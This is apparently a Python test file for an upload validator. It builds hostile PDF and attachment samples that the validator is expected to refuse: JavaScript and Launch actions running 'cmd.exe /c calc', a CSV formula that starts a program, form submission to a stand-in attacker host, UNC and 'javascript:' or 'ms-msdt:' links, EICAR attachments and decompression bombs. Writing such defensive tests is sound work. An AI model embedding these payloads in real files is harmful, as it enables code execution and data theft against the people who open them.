"""PDFs that act, carry, lock or burst."""

import gzip
from functools import partial

import pikepdf
from pikepdf import Dictionary, Name

from tests.perizinan.files import made, made_pdf, office_made
from tests.perizinan.files.corpus_kit import locked, nine, on_page, opens, table
from tests.perizinan.files.made import EICAR, attached, pdf, photo, zipped
from tests.perizinan.files.made_pdf import catalog, goes_to, link, page, raw, stream, with_content

UNREADABLE = [
    ("zip", lambda: zipped("a.exe", b"MZ"), "a.zip"),
    ("zip without its ending", lambda: zipped("a.exe", b"MZ"), "a"),
    ("rar", lambda: b"Rar!\x1a\x07\x01\0" + bytes(99), "a.rar"),
    ("7z named txt", lambda: b"7z\xbc\xaf\x27\x1c" + bytes(99), "a.txt"),
    ("gz named csv", lambda: gzip.compress(b"a;b"), "a.csv"),
    ("rich text", lambda: b"{\\rtf1 halo}", "a.rtf"),
    ("rich text named doc", lambda: b"{\\rtf1 halo}", "a.doc"),
    ("rich text named txt", lambda: b"{\\rtf1 halo}", "a.txt"),
    ("OneNote", lambda: bytes.fromhex("e4525c7b8cd8a74daeb15378d02996d3") + bytes(99), "a.one"),
    ("OneNote without its ending", lambda: bytes.fromhex("e4525c7b8cd8a74daeb15378d02996d3") + bytes(99), "a"),
    ("SYLK named csv", lambda: b"ID;PWXL;N;E\nC;X1;Y1;EEXEC()", "a.csv"),
    ("XML that grows", lambda: b"<!DOCTYPE a [<!ENTITY b 'c'>]><a>&b;</a>", "a.xml"),
    ("XML that is drawn elsewhere", lambda: b"<?xml-stylesheet href='http://a.invalid'?><a/>", "a.xml"),
    ("XML cut off", lambda: b"<a><b>", "a.xml"),
    ("half a photo", lambda: photo()[:3000], "a.jpg"),
    ("Word with a program", lambda: office_made.docx({"word/media/a.bin": b"MZ"}), "a.docx"),
    ("Word with a byte in front", lambda: b"\n" + office_made.docx(), "a.docx"),
]


def in_pdf(address):
    return address.encode() if address.isascii() else b"\xfe\xff" + address.encode("utf-16-be")


ACTIVE_PDF = table(
    None,
    [
        ("script at opening", lambda: pdf(made.opens_with(made.javascript)), {}),
        ("script, escaped name", made.escaped_javascript, {}),
        ("script, every letter escaped", lambda: catalog(b"/OpenAction<</S/#4a#61#76#61#53cript/#4aS(1)>>"), {}),
        (
            "script in a stream of objects",
            partial(pdf, made.indirect_javascript, object_stream_mode=pikepdf.ObjectStreamMode.generate),
            {},
        ),
        ("script, chained", lambda: pdf(made.nested_javascript), {}),
        ("script in a name tree", lambda: pdf(made.named_javascript), {}),
        ("script in a deeper name tree", lambda: catalog(b"/Names<</JavaScript 8 0 R>>", n8=b"<</Kids[]>>"), {}),
        ("script of a form field", lambda: page(b"/Annots[<</Subtype/Widget/AA<</K<</S/JavaScript/JS(1)>>>>>>]"), {}),
        ("script of a link", lambda: link(b"/S/JavaScript/JS(app.alert(1))"), {}),
        ("script in an outline", lambda: catalog(b"/Outlines<</First<</Title(a)/A<</S/JavaScript>>>>>>"), {}),
        ("script kept in a stream", lambda: catalog(b"/OpenAction<</S/JavaScript/JS 9 0 R>>", n9=stream(b"1")), {}),
        ("script that nothing names yet", lambda: raw({9: b"<</S/JavaScript/JS(1)>>"}), {}),
        ("script, added by an update", lambda: made_pdf.updated(raw(), 4, b"<</S/JavaScript/JS(1)>>"), {}),
        ("script, wrong place of the table", lambda: made.broken_xref(pdf(made.opens_with(made.javascript))), {}),
        ("script in an attached pdf", lambda: pdf(attached(pdf(made.opens_with(made.javascript)))), {}),
        ("launch at opening", lambda: pdf(made.opens_with(made.launch)), {}),
        ("launch by a link", lambda: link(b"/S/Launch/Win<</F(cmd.exe)/P(/c calc)>>"), {}),
        ("launch at the end of a chain", lambda: link(b"/S/GoTo/D[3 0 R/Fit]/Next[<</S/Launch/F(a.exe)>>]"), {}),
        ("opens another file", lambda: link(b"/S/GoToR/F(lain.pdf)/D[0/Fit]"), {}),
        ("opens a file on a server", lambda: link(b"/S/GoToR/F(\\\\\\\\penyerang\\\\bagi\\\\a.pdf)/D[0/Fit]"), {}),
        ("opens an attached file", lambda: link(b"/S/GoToE/T<</R/C/N(a)>>"), {}),
        ("sends its form", lambda: link(b"/S/SubmitForm/F<</FS/URL/F(http://penyerang.invalid)>>"), {}),
        ("reads form data", lambda: link(b"/S/ImportData/F(a.fdf)"), {}),
        ("xfa form", lambda: pdf(made.xfa_form), {}),
        ("xfa form in parts", lambda: catalog(b"/AcroForm<</Fields[]/XFA[(a) 9 0 R]>>", n9=stream(b"<xdp/>")), {}),
        ("rich media", lambda: page(b"/Annots[<</Subtype/RichMedia>>]"), {}),
        (
            "three dimensions",
            lambda: page(b"/Annots[<</Subtype/3D/3DD 9 0 R>>]", n9=stream(b"U3D", b"/Subtype/U3D")),
            {},
        ),
        ("rich media, its name elsewhere", lambda: page(b"/Annots[<</Subtype 12 0 R>>]", n12=b"/RichMedia"), {}),
        ("launch, its name elsewhere", lambda: page(b"/Annots[<</A<</S 12 0 R>>>>]", n12=b"/Launch"), {}),
        ("film", lambda: page(b"/Annots[<</Subtype/Movie>>]"), {}),
        ("sound", lambda: link(b"/S/Sound/Sound 9 0 R"), {}),
        ("rendition", lambda: link(b"/S/Rendition/OP 0"), {}),
        ("address at opening", lambda: opens(S=Name.URI, URI="https://penyerang.invalid"), {}),
        ("address when the page opens", lambda: on_page("/O", S=Name.URI, URI="https://penyerang.invalid"), {}),
        ("address when it closes", lambda: catalog(b"/AA<</WC<</S/URI/URI(https://penyerang.invalid)>>>>"), {}),
        ("address after a quiet step", lambda: opens(S=Name.Named, N=Name.NextPage, Next=Dictionary(S=Name.URI)), {}),
        ("base of all links", lambda: catalog(b"/URI<</Base(file://penyerang/)>>"), {}),
        *(
            (f"link to {address}", partial(goes_to, in_pdf(address)), {})
            for address in (
                "file://penyerang/a",
                "file:///C:/Windows/a.exe",
                "C:\\\\Windows\\\\a.exe",
                "\\\\\\\\penyerang\\\\a",
                "//penyerang/a",
                "javascript:alert(1)",
                "  JaVa\\nScRiPt:alert(1)",
                "data:text/html,x",
                "smb://penyerang/a",
                "\ufeffjavascript:alert(1)",
                "ms-msdt:/id",
                "search-ms:query=a",
                "vbscript:a",
            )
        ),
        ("stream kept elsewhere", lambda: with_content(b"", b"/F(http://penyerang.invalid/a)/FFilter/FlateDecode"), {}),
        ("stream kept in a named file", lambda: with_content(b"", b"/F<</FS/URL/F(http://penyerang.invalid)>>"), {}),
        ("page of another file", lambda: raw({9: stream(b"", b"/Subtype/Form/Ref<</F(a.pdf)/Page 0>>")}), {}),
        (
            "icon of a file on a server",
            lambda: page(b"/Annots[<</Subtype/FileAttachment/FS(\\\\\\\\penyerang\\\\a)>>]"),
            {},
        ),
        ("file named by its address", lambda: raw({9: b"<</Type/Filespec/FS/URL/F(https://penyerang.invalid)>>"}), {}),
        (
            "script in the matrix of a font",
            lambda: raw({9: b"<</Type/Font/FontMatrix[1 2 3 4 5(0\\);alert\\(1)]>>"}),
            {},
        ),
        ("program for a printer", lambda: raw({9: stream(b"%!PS", b"/Type/XObject/Subtype/PS")}), {}),
    ],
    refused="active-content",
)

CARRYING_PDF = table(
    None,
    [
        ("eicar attached", lambda: pdf(attached(EICAR)), {"refused": "infected"}),
        ("eicar attached on a page", lambda: pdf(made.annotated(EICAR)), {"refused": "infected"}),
        ("eicar in an attached zip", lambda: pdf(attached(zipped())), {"refused": "infected"}),
        ("eicar in an attached pdf", partial(made.matryoshka, 2, EICAR), {"refused": "infected"}),
        ("eicar attached, its type not told", lambda: made_pdf.attached_by_hand(EICAR), {"refused": "infected"}),
        ("program attached", lambda: pdf(attached(b"MZ\x90\0" + bytes(99), "surat.pdf")), {}),
        ("Linux program attached", lambda: pdf(attached(b"\x7fELF" + bytes(99), "a.dat")), {}),
        ("script attached", lambda: pdf(attached(b"WScript.Echo(1)", "a.js")), {}),
        ("script attached, blank behind its name", lambda: pdf(attached(b"echo", "a.bat. ")), {}),
        ("page attached", lambda: pdf(attached(b"<!DOCTYPE html><p>", "a.txt")), {}),
        ("drawing with script attached", lambda: pdf(attached(b"<svg><script>1</script></svg>", "a.svg")), {}),
        ("Flash attached", lambda: pdf(attached(b"CWS\x09" + bytes(99), "a.bin")), {}),
        ("shortcut attached", lambda: pdf(attached(b"L\0\0\0\x01\x14\x02\0" + bytes(99), "a")), {}),
        ("old Word attached", lambda: pdf(attached(b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600), "a.bin")), {
            "refused": "attachment-unreadable"}),
        ("locked pdf attached", lambda: pdf(attached(locked(user="u", owner="o"))), {
            "refused": "attachment-unreadable"}),
        *((f"{what} attached", partial(made.carrying, data, name), {"refused": "attachment-unreadable"})
          for what, data, name in UNREADABLE),
        ("program attached, blank nobody sees behind its name", lambda: pdf(attached(b"echo", "a.bat\u200b")), {}),
        ("program by its second name", made_pdf.two_names, {}),
        ("pdf attached as a web program", lambda: pdf(attached(pdf(), "a.hta")), {}),
        ("web page in two bytes a letter", lambda: pdf(attached("<html><script>1".encode("utf-16"), "a.txt")), {}),
        ("page in XML", lambda: pdf(attached(b"<h:html xmlns:h='http://www.w3.org/1999/xhtml'/>", "a.xml")), {}),
        ("table that starts a program", lambda: pdf(attached(b"a;=cmd|'/c calc'!A0", "a.csv")), {}),
        ("Excel add-in attached", lambda: pdf(attached(b"x", "a.xll")), {}),
        ("Python attached", lambda: pdf(attached(b"print(1)", "a.py")), {}),
        ("half a pdf attached", lambda: pdf(attached(nine()[:900])), {"refused": "attachment-unreadable"}),
        ("pdf in pdf in pdf in pdf", lambda: made.matryoshka(3, pdf()), {"refused": "too-complex"}),
    ],
    refused="attachment-program",
)  # fmt: skip

LOCKED_PDF = table(
    None,
    [
        ("user password", lambda: locked(user="u", owner="o"), {}),
        ("owner password", lambda: locked(owner="o"), {}),
        ("no password, printing forbidden", lambda: locked(allow=pikepdf.Permissions(print_highres=False)), {}),
        *((f"lock of revision {r}", partial(locked, user="u", R=r, aes=r > 3, metadata=r > 3), {}) for r in (3, 4, 6)),
        ("locked by a certificate", made_pdf.unknown_lock, {}),
        ("lock of a shop", lambda: made_pdf.unknown_lock(b"/EBX_HANDLER"), {}),
    ],
    refused="encrypted",
)

BURSTING_PDF = table(
    None,
    [
        ("page of 13 MB", lambda: with_content(made_pdf.zeros(13), b"/Filter/FlateDecode"), {}),
        ("page packed twice", lambda: made_pdf.packed_twice(13 << 20), {}),
        (
            "attachment of 3 MB",
            lambda: made_pdf.attached_by_hand(made_pdf.zeros(3), entries=b"/Filter/FlateDecode"),
            {},
        ),
        (
            "picture of 100 000 x 100 000",
            lambda: made_pdf.picture(b"/Width 100000/Height 100000/BitsPerComponent 8/ColorSpace/DeviceRGB"),
            {"refused": "picture-too-large"},
        ),
        ("thirty filters", made_pdf.many_filters, {}),
        ("301 pages", partial(pdf, pages=301), {"refused": "too-many-pages"}),
        ("a thousand million pages", made_pdf.tree_that_grows, {"refused": "damaged"}),
        ("pages in a loop", lambda: pdf(made.loop_of_pages), {"refused": "damaged"}),
        ("no pages", partial(pdf, pages=0), {"refused": "no-pages"}),
        ("brackets 5000 deep", lambda: made_pdf.nested(5000), {"refused": "no-pages"}),
    ],
    refused="too-complex",
)
